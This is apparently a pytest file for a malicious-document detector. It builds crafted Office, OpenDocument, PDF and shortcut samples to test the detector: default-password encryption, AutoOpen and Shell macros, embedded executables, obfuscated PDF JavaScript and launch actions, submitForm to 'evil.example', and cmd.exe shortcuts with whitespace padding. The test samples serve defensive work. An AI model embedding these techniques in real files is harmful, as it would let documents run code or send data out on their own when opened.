"""Encryption, objects, shortcuts and damaged PDF; what only looks like one is none."""

from __future__ import annotations

import base64
import hashlib
import io
import struct
import time
import zlib
from pathlib import Path

import pikepdf
import pytest
from msoffcrypto.format.ooxml import (  # type: ignore[import-untyped]
    OOXMLFile,
)

from orchestrator.demo.files.archives import zip_of
from orchestrator.demo.files.compound_file import Tree, compound_file
from orchestrator.demo.files.vba_project import vba_project
from tests.fixtures.documents import analyze_document, biff, kinds_of, workbook
from workers import Analysis

TYPES = {"[Content_Types].xml": b"<Types/>"}
#: Small packages are stored in another way than real ones, and this does not pack.
FILLER = hashlib.shake_128(b"").digest(8000)
ENCRYPTABLE = (
    b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
)
ODF = {"mimetype": b"application/vnd.oasis.opendocument.text"}
WORDML = '<?xml version="1.0"?><w xmlns="http://schemas.microsoft.com/office/word/2003/wordml">'
FLAT_ODF = (
    '<?xml version="1.0"?><office:document '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
)


@pytest.fixture
def analyze(tmp_path: Path):
    def run(data: bytes) -> Analysis:
        return analyze_document(tmp_path / "sample", data)

    return run


def encrypted(parts: dict[str, bytes], password: str) -> bytes:
    package = zip_of({"[Content_Types].xml": ENCRYPTABLE, **parts})
    clear = OOXMLFile(io.BytesIO(package))
    stream = io.BytesIO()
    clear.encrypt(password, stream)
    return stream.getvalue()


def macro_project() -> bytes:
    return compound_file(vba_project("AutoOpen", "x = 1"))


def native(file_name: bytes) -> bytes:
    path = b"C:\\a\\" + file_name + b"\0"
    body = struct.pack("<H", 2) + file_name + b"\0" + path + bytes(8) + path
    body += struct.pack("<I", 2) + b"MZ"
    return struct.pack("<I", len(body)) + body


def presentation_object(data: bytes, *, instance: int) -> bytes:
    return struct.pack("<HHI", instance << 4, 0x1011, len(data)) + data


def word_stream(flags: int) -> bytes:
    return struct.pack("<H8xH", 0xA5EC, flags) + bytes(100)


def current_user(token: int) -> bytes:
    return struct.pack("<HHIII", 0, 0x0FF6, 20, 20, token) + bytes(12)


def shortcut(relative: str, arguments: str) -> bytes:
    texts = b"".join(
        struct.pack("<H", len(text)) + text.encode("utf-16-le")
        for text in (relative, arguments)
    )
    head = b"L\x00\x00\x00\x01\x14\x02\x00".ljust(0x14, b"\0")
    return (
        head + struct.pack("<I", 0x80 | 0x08 | 0x20).ljust(0x4C - 0x14, b"\0") + texts
    )


def test_what_office_opens_by_itself_is_opened(analyze):
    parts = {"xl/vbaProject.bin": macro_project(), "filler": FILLER}

    analysis = analyze(encrypted(parts, "VelvetSweatshop"))

    assert analysis.result["encrypted"] is True
    assert {"encrypted", "encrypted_default", "macro", "macro_auto_exec"} <= kinds_of(
        analysis
    )


def test_what_takes_another_password_stays_shut(analyze):
    analysis = analyze(encrypted({"filler": FILLER}, "another"))

    assert kinds_of(analysis) == {"encrypted"}


@pytest.mark.parametrize("rounds", [b'spinCount="999999"', b'spinCount="&#57;9"'])
def test_a_package_that_wants_endless_hashing_is_not_opened(analyze, rounds: bytes):
    data = encrypted({"filler": FILLER}, "VelvetSweatshop")
    started = time.process_time()

    analysis = analyze(data.replace(b'spinCount="100000"', rounds))

    assert kinds_of(analysis) == {"encrypted"}
    assert time.process_time() - started < 2


@pytest.mark.parametrize(
    ("streams", "is_encrypted"),
    [
        ({"WordDocument": word_stream(0x0100)}, True),
        ({"WordDocument": word_stream(0x0200)}, False),
        ({"Workbook": workbook(biff(0x2F, bytes(54)))}, True),
        ({"Book": workbook(biff(0x2F, bytes(4)))}, True),
        ({"Workbook": workbook(biff(0x42, bytes(2)))}, False),
        ({"Current User": current_user(0xF3D1C4DF)}, True),
        ({"Current User": current_user(0xE391C05F)}, False),
    ],
)
def test_legacy_formats_say_that_they_are_encrypted(
    analyze, streams: dict[str, bytes], *, is_encrypted: bool
):
    assert analyze(compound_file(streams)).result["encrypted"] is is_encrypted


@pytest.mark.parametrize("instance", [0, 1])
def test_objects_of_a_presentation_are_named(analyze, instance: int):
    stored = compound_file({"\x01Ole10Native": native(b"a.lnk")})
    if instance:
        stored = struct.pack("<I", len(stored)) + zlib.compress(stored)
    stream = presentation_object(stored, instance=instance)

    analysis = analyze(compound_file({"PowerPoint Document": stream}))

    assert {"embedded_object", "embedded_program"} <= kinds_of(analysis)
    assert [row["file_name"] for row in analysis.result["objects"]] == ["a.lnk"]


@pytest.mark.parametrize(
    "data",
    [
        zip_of(
            {**ODF, "Object 1": compound_file({"\x01Ole10Native": native(b"a.js")})}
        ),
        zip_of({**ODF, "Any": compound_file({"\x01Ole10Native": native(b"a.js")})}),
        (
            FLAT_ODF
            + base64.b64encode(
                compound_file({"\x01Ole10Native": native(b"a.js")})
            ).decode()
        ).encode(),
    ],
)
def test_objects_of_an_opendocument_are_looked_into(analyze, data: bytes):
    assert {"embedded_object", "embedded_program"} <= kinds_of(analyze(data))


def test_the_picture_of_an_object_is_no_object(analyze):
    assert (
        kinds_of(analyze(zip_of({**ODF, "ObjectReplacements/Object 1": b"x"}))) == set()
    )


def test_parts_of_a_flat_package_are_read_as_of_a_packed_one(analyze):
    project = base64.b64encode(macro_project()).decode()
    text = (
        '<?xml version="1.0"?><pkg:package '
        'xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        '<pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>'
        f"{project}</pkg:binaryData></pkg:part>"
        '<pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData>'
        '<Relationship Type="http://x/attachedTemplate" TargetMode="External" '
        'Target="https://t.example/a.dotm"/></pkg:xmlData></pkg:part>'
        '<pkg:part pkg:name="/word/embeddings/a.exe"><pkg:binaryData>TVo='
        "</pkg:binaryData></pkg:part></pkg:package>"
    )

    analysis = analyze(text.encode())

    assert {
        "macro_auto_exec",
        "external_template",
        "embedded_object",
        "embedded_program",
    } <= kinds_of(analysis)


def test_basic_of_a_flat_opendocument_is_read(analyze):
    text = (
        f'{FLAT_ODF}<ooo:module ooo:name="evil"><ooo:source-code>Sub Main\n'
        "Shell(&quot;calc.exe&quot;)\nEnd Sub</ooo:source-code></ooo:module>"
    )

    analysis = analyze(text.encode())

    assert {"macro", "macro_execution"} <= kinds_of(analysis)
    assert analysis.result["macros"][0]["module"] == "evil"


@pytest.mark.parametrize(
    "data",
    [
        WORDML.encode(),
        (WORDML + "<w:binData>Sub AutoOpen Shell</w:binData>").encode("utf-16"),
        (
            b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
            b"--x\r\n\r\nSub AutoOpen()\r\nShell cmd\r\nEnd Sub\r\n--x--\r\n"
        ),
    ],
)
def test_text_that_is_no_macro_project_is_no_macro(analyze, data: bytes):
    assert analyze(data).score == -1


def test_the_sheets_of_a_workbook_with_a_macro_are_no_excel_4_macros(analyze):
    sheet = biff(0x85, struct.pack("<IBB", 0, 0, 0) + b"\x06\x00Sheet1")
    streams: Tree = {
        "Workbook": workbook(sheet),
        "_VBA_PROJECT_CUR": vba_project("Total", "x=1"),
    }

    analysis = analyze(compound_file(streams))

    assert "macro" in kinds_of(analysis)
    assert "macro_excel4" not in kinds_of(analysis)


def script_at(tmp_path: Path, source: str, *place: str) -> bytes:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(source))
    path = tmp_path / "made.pdf"
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        node = pdf.pages[0].obj if place[0] == "page" else pdf.Root
        for name in place[1:-1]:
            node[name] = pikepdf.Dictionary()
            node = node[name]
        node[place[-1]] = action
        pdf.save(path)
    return path.read_bytes()


@pytest.mark.parametrize(
    ("place", "on_open"),
    [
        (("root", "/OpenAction"), True),
        (("page", "/AA", "/O"), True),
        (("page", "/AA", "/PV"), True),
        (("page", "/AA", "/C"), False),
        (("root", "/AA", "/WP"), False),
        (("root", "/AA", "/DP"), False),
        (("root", "/AA", "/WC"), False),
    ],
)
def test_only_what_runs_at_opening_is_said_to(
    analyze, tmp_path: Path, place: tuple[str, ...], *, on_open: bool
):
    analysis = analyze(script_at(tmp_path, "app.beep()", *place))

    assert "pdf_javascript" in kinds_of(analysis)
    assert ("pdf_javascript_on_open" in kinds_of(analysis)) is on_open


CHECK = (
    'if (typeof(this.ADBE) == "undefined") this.ADBE = new Object();\n'
    "if (app.viewerVersion < 9.0)\n"
    '  app.launchURL("http://cgi.adobe.com/special/acrobat/update", true);'
)


@pytest.mark.parametrize(
    "source",
    [
        CHECK,
        'AFNumber_Format(2, 0, 0, 0, "", false);',
        'AFDate_FormatEx("d");',
        "this.print({bUI: true, bSilent: false});",
        'this.resetForm(["name", "sum"]);',
        'event.value = this.getField("sum").value * 0.25;',
        'var f = this.getField("day"); f.value = util.printd("d", new Date());',
    ],
)
def test_what_forms_do_is_no_exploit(analyze, tmp_path: Path, source: str):
    analysis = analyze(script_at(tmp_path, source, "root", "/OpenAction"))

    assert "pdf_form_script" in kinds_of(analysis)
    assert analysis.score == -1


@pytest.mark.parametrize(
    "change",
    [
        ("cgi.adobe.com", "evil.example"),
        ("http://cgi.adobe.com/", "http://cgi.adobe.com.evil.example/"),
        ("app.launchURL", "app.launchURL/**/"),
        ("if (app", "eval(ADBE); if (app"),
        ("if (app", 'this["eval"](ADBE); if (app'),
        ("if (app", "\\u0065val(ADBE); if (app"),
    ],
)
def test_what_does_more_than_the_check_is_a_script(
    analyze, tmp_path: Path, change: tuple[str, str]
):
    analysis = analyze(
        script_at(tmp_path, CHECK.replace(*change), "root", "/OpenAction")
    )

    assert "pdf_javascript" in kinds_of(analysis)


@pytest.mark.parametrize(
    "source",
    [
        "app.alert(1)",
        'var f = this.getField("a").value; eval(f);',
        'this["print"](1)',
        'this.getField("a")["value"]',
        'var eval; eval(this.getField("a").value);',
        'this.submitForm("http://evil.example")',
        'this.getField("a").value = "http://evil.example/"',
        "",
    ],
)
def test_what_does_more_than_forms_do_is_a_script(analyze, tmp_path: Path, source: str):
    analysis = analyze(script_at(tmp_path, source, "root", "/OpenAction"))

    assert "pdf_javascript" in kinds_of(analysis)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (
            b"%PDF-\x00 trailer<</Root<</OpenAction<</S/JavaScript/JS(x)>>>>>>",
            "javascript",
        ),
        (b"%PDF-1.4\n1 0 obj <</S /La#75nch /F (cmd)>>", "launch"),
        (
            b"%PDF-1.5\n1 0 obj <</Filter/FlateDecode>> stream\n"
            + zlib.compress(b"<</S/JavaScript/JS(eval(1))>>")[:-4],
            "javascript_suspicious",
        ),
        (b"%PDF-1.4\n1 0 obj <</Type/EmbeddedFile>>", "embedded_file"),
    ],
)
def test_a_pdf_that_cannot_be_read_is_searched(analyze, data: bytes, kind: str):
    analysis = analyze(data)

    assert {"pdf_damaged", f"pdf_{kind}"} <= kinds_of(analysis)


def test_a_header_behind_a_comment_is_a_header(analyze, tmp_path: Path):
    made = script_at(tmp_path, "app.beep()", "root", "/OpenAction")

    analysis = analyze(b"% a comment\n" + made)

    assert {"pdf_javascript", "pdf_javascript_on_open"} <= kinds_of(analysis)


@pytest.mark.parametrize(
    ("target", "arguments", "kinds"),
    [
        ("..\\notes.txt", "", set()),
        ("..\\app.exe", "--safe", set()),
        ("..\\cmd.exe", "/c calc", {"shortcut_interpreter"}),
        (
            "..\\cmd.exe",
            " " * 300 + "/c x",
            {"shortcut_interpreter", "shortcut_padding"},
        ),
        ("\\\\host\\share\\a.exe", "", {"shortcut_remote"}),
    ],
)
def test_a_shortcut_says_what_it_starts(
    analyze, target: str, arguments: str, kinds: set[str]
):
    analysis = analyze(shortcut(target, arguments))

    assert kinds_of(analysis) == {"shortcut", *kinds}
    (row,) = analysis.result["relationships"]
    assert row == {"type": "shortcut", "target": target, "part": arguments.strip()}


def test_what_stands_behind_a_padded_string_of_a_shortcut_is_read(analyze):
    folder = "C:\\Windows" + " " * 1000
    stored = struct.pack("<H", len(folder)) + folder[:260].encode("utf-16-le")
    data = shortcut("..\\cmd.exe", "/c calc")
    flags = struct.unpack_from("<I", data, 0x14)[0] | 0x10
    at = 0x4C + 2 + 2 * len("..\\cmd.exe")

    analysis = analyze(
        data[:0x14] + struct.pack("<I", flags) + data[0x18:at] + stored + data[at:]
    )

    assert "shortcut_padding" in kinds_of(analysis)
    assert analysis.result["relationships"][0]["part"] == "/c calc"


def test_a_shortcut_that_is_cut_off_is_no_failure(analyze):
    whole = shortcut("..\\cmd.exe", "/c calc")

    for end in range(8, len(whole), 7):
        analyze(whole[:end])
